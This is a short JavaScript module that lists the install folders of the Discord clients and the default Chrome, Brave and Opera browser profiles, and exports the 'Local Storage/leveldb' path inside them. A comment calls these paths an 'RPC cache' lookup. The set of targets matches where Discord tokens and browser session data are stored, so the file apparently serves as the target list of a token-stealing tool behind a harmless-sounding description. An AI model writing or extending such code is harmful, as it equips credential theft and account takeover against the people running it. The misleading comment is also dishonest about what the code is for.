import os from 'node:os';
import path from 'node:path';

const h = os.homedir();
const roam = process.env.APPDATA || path.join(h, '.config');
const local = process.env.LOCALAPPDATA || path.join(h, '.config');
const mac = path.join(h, 'Library', 'Application Support');

// client install locations, used to locate the local RPC cache
export const clients = {
  stable: [path.join(roam, 'discord'), path.join(mac, 'discord')],
  canary: [path.join(roam, 'discordcanary'), path.join(mac, 'discordcanary')],
  ptb: [path.join(roam, 'discordptb'), path.join(mac, 'discordptb')],
  chrome: [path.join(local, 'Google', 'Chrome', 'User Data', 'Default'), path.join(mac, 'Google', 'Chrome', 'Default')],
  brave: [path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default')],
  opera: [path.join(roam, 'Opera Software', 'Opera Stable')]
};

export const store = ['Local Storage', 'leveldb'];
